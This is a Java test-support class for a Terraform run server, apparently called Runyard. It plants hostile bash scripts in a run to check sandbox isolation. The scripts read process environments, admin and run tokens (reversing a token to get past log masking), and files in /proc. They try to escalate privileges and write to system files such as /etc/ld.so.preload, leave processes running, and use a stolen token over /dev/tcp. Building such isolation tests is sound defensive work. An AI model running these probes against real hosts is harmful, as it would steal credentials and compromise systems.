package dev.runyard.acceptance.support;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.regex.Pattern;

/**
 * A hostile configuration that was planned and is being applied: it looks for all it can find, tells it in its log, leaves
 * processes behind, and stays until the run is canceled.
 */
public final class Attack implements AutoCloseable {
    /** Where anybody may write, as long as nothing keeps them from it. */
    private static final Path OUTSIDE = outside();

    /** Tells the loot as {@code LOOT name value}; a token is told backwards, since it would be masked. */
    private static final String APPLY = """
            exec 2>/dev/null
            loot() { echo "LOOT $1 $(echo "$2" | tr '\\n' ' ')"; }
            tries() { if eval "$2"; then loot "$1" yes; else loot "$1" no; fi; }
            data=@DATA@ outside=@OUTSIDE@ server=@SERVER@ settings=$(dirname "$TF_CLI_CONFIG_FILE")
            loot environments "$(cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c '^RUNYARD_ENCRYPTION_KEY=\\|^RUNYARD_DATABASE_URL=')"
            loot processes "$(cat /proc/[0-9]*/comm | sort -u)"
            loot data "$(ls $data)"
            loot key "$(cat $data/admin-token; ls $data/../blobs)"
            loot jobs "$(cat $data/worker/attempts/*/attempt.json | head -c 100)"
            loot runs "$(ls $(dirname $data)/*/work/runs $data/work/runs)"
            loot outside "$(cat $outside)"
            tries write-outside 'echo poisoned >>$outside'
            tries write-data 'echo x >$data/poison'
            tries write-tool 'echo >>$(readlink -f $(command -v terraform))'
            tries write-settings 'echo >>$TF_CLI_CONFIG_FILE'
            tries write-providers 'touch $data/work/providers/*/packages/poison'
            tries write-system 'touch /usr/poison /etc/ld.so.preload'
            tries signal 'kill -0 $server'
            tries trace 'head -c 1 /proc/$server/mem || cat /proc/$server/maps | grep -q .'
            tries namespaces 'unshare -U true'
            tries mount 'mount -t tmpfs none /mnt'
            tries device 'mknod ./device c 1 1'
            tries become-root 'newgrp root </dev/null || su -c true </dev/null'
            loot privileges "$(grep -h 'NoNewPrivs\\|CapEff\\|CapBnd\\|Seccomp:' /proc/self/status | tr '\\t' ' ')"
            loot devices "$(ls /dev)"
            loot shared "$(ls /dev/shm; cat /proc/sysvipc/shm | tail -n +2)"
            loot keys "$(cat /proc/keys)"
            loot core "$(ulimit -c)"
            loot modes "$(stat -c %a $settings/*)"
            loot token "$(grep -o 'token = "[^"]*"' $TF_CLI_CONFIG_FILE | cut -d '"' -f 2 | rev)"
            setsid sleep 97531 &
            ( ( env -i setsid nohup sleep 97532 >/dev/null </dev/null & ) & )
            mkfifo pipe; ln -s /etc/passwd link; ln -s $data/admin-token terraform.tfstate
            echo "LOOT end ."
            exec sleep 97533
            """;

    /** The same without a sandbox, where it would do harm to the machine: it looks, and harms what belongs to the test alone. */
    private static final String LOOK = """
            exec 2>/dev/null
            loot() { echo "LOOT $1 $(echo "$2" | tr '\\n' ' ')"; }
            tries() { if eval "$2"; then loot "$1" yes; else loot "$1" no; fi; }
            data=@DATA@ outside=@OUTSIDE@ server=@SERVER@
            tries environment 'tr "\\0" "\\n" </proc/$server/environ | grep -q ^RUNYARD_DATABASE_URL='
            tries memory 'grep -q . /proc/$server/maps'
            tries signal 'kill -0 $server'
            tries data 'ls $data | grep -q admin-token'
            tries admin-token 'grep -q . $data/admin-token'
            tries job-tokens 'grep -q jobToken $data/worker/attempts/*/attempt.json'
            tries write-data 'echo x >$data/poison'
            tries write-outside 'echo poisoned >>$outside'
            tries write-providers 'mkdir -p $data/work/providers && touch $data/work/providers/poison'
            loot core "$(ulimit -c)"
            env -i setsid nohup sleep 97532 >/dev/null </dev/null &
            echo "LOOT end ."
            exec sleep 97533
            """;

    /** Runs while a plan is prepared: what a run may do by its token, without any tool but the shell. */
    private static final String PLAN = """
            exec 4>&2 2>/dev/null
            token=$(grep -o 'token = "[^"]*"' /runyard/settings/cli.tfrc | cut -d '"' -f 2)
            asks() {
              exec 3<>/dev/tcp/@HOST@/@PORT@ || return
              printf '%s /api/v2/%s HTTP/1.1\\r\\nHost: @HOST@:@PORT@\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n' \
                "$2" "$3" "$token" >&3
              printf 'Content-Type: application/vnd.api+json\\r\\nContent-Length: %s\\r\\n\\r\\n%s' "${#4}" "$4" >&3
              read -r protocol status rest <&3
              exec 3>&-
              echo "LOOT $1 $status" >&4
            }
            asks plan-reads-workspace GET "workspaces/$TFC_WORKSPACE_ID" ""
            asks plan-writes-state POST "workspaces/$TFC_WORKSPACE_ID/state-versions" '@STATE@'
            exit 1
            """;

    private static final Pattern LOOT = Pattern.compile("LOOT (\\S+) ?(.*)");

    private final Fleet fleet;
    private final Tenant tenant;
    private final Space space;
    private final Started run;
    private final Map<String, String> loot;

    private Attack(Fleet fleet, Tenant tenant, Space space, Started run) {
        this.fleet = fleet;
        this.tenant = tenant;
        this.space = space;
        this.run = run;
        this.loot = loot(run.applyLog());
    }

    /** Attacks a server that has these settings beside its defaults; returns while the apply goes on. */
    public static Attack on(Map<String, String> settings) {
        return by(APPLY, settings);
    }

    /** Looks what a server without a sandbox keeps from its runs; returns while the apply goes on. */
    public static Attack withoutSandbox() {
        return by(LOOK, Map.of("RUNYARD_SANDBOX", "process"));
    }

    private static Attack by(String script, Map<String, String> settings) {
        var fleet = Fleet.withWorkers(1, settings);
        var tenant = fleet.tenant();
        var space = tenant.workspace("hostile", Map.of("structured-run-output-enabled", false));
        var run = space.startRun(Map.of("main.tf", """
                resource "terraform_data" "attack" {
                  provisioner "local-exec" {
                    interpreter = ["/bin/bash"]
                    command     = "${path.module}/attack.sh"
                  }
                }
                """, "attack.sh", filled(script, fleet)))
                .awaits("planned");
        run.confirm().awaitsInApplyLog("LOOT end");
        return new Attack(fleet, tenant, space, run);
    }

    private static Path outside() {
        try {
            var file = Files.createTempFile(Path.of("/var/tmp"), "runyard-outside", "");
            Files.writeString(file, "of-somebody-else");
            assertThat(file.toFile().setWritable(true, false)).isTrue();
            assertThat(file.toFile().setReadable(true, false)).isTrue();
            file.toFile().deleteOnExit();
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String filled(String script, Fleet fleet) {
        var url = fleet.admin().server();
        return script.replace("@DATA@", fleet.data(0).toString())
                .replace("@OUTSIDE@", OUTSIDE.toString())
                .replace("@SERVER@", Long.toString(fleet.server().pid()))
                .replace("@HOST@", url.getHost())
                .replace("@PORT@", Integer.toString(url.getPort()))
                .replace(
                        "@STATE@",
                        "{\"data\":{\"type\":\"state-versions\",\"attributes\":{\"serial\":9,\"md5\":\"x\",\"lineage\":\"y\"}}}");
    }

    private static Map<String, String> loot(String log) {
        var found = new HashMap<String, String>();
        LOOT.matcher(log)
                .results()
                .forEach(line -> found.put(line.group(1), line.group(2).strip()));
        return found;
    }

    /** Returns what it told under a name; what it never told is an error of the attack. */
    public String found(String name) {
        assertThat(loot).containsKey(name);
        return Objects.requireNonNull(loot.get(name), name);
    }

    /** Returns the file that is nobody's business. */
    public Path outsideFile() {
        return OUTSIDE;
    }

    /** Speaks with the token of the run. */
    public ApiClient asRun() {
        return space.api().with(new StringBuilder(found("token")).reverse().toString());
    }

    /** Attacks by the token of a plan, from inside it; returns what it found. */
    public Map<String, String> plan() {
        var other = tenant.workspace("hostile-plan", Map.of("structured-run-output-enabled", false));
        other.variable("GIT_SSH_COMMAND", "/bin/bash /runyard/configuration/plan.sh", Map.of("category", "env"));
        var planned = other.startRun(Map.of("main.tf", """
                module "a" {
                  source = "git::ssh://git@example.com/a.git"
                }
                """, "plan.sh", filled(PLAN, fleet)))
                .awaits("errored");
        return loot(planned.planLog());
    }

    public Fleet fleet() {
        return fleet;
    }

    public Tenant tenant() {
        return tenant;
    }

    public Space space() {
        return space;
    }

    public Started run() {
        return run;
    }

    /** Returns the processes that it has started and that are still there. */
    public static List<ProcessHandle> survivors() {
        return ProcessHandle.allProcesses()
                .filter(process -> process.info()
                        .arguments()
                        .filter(arguments -> arguments.length == 1 && arguments[0].startsWith("9753"))
                        .isPresent())
                .toList();
    }

    @Override
    public void close() {
        fleet.close();
        survivors().forEach(ProcessHandle::destroyForcibly);
    }
}
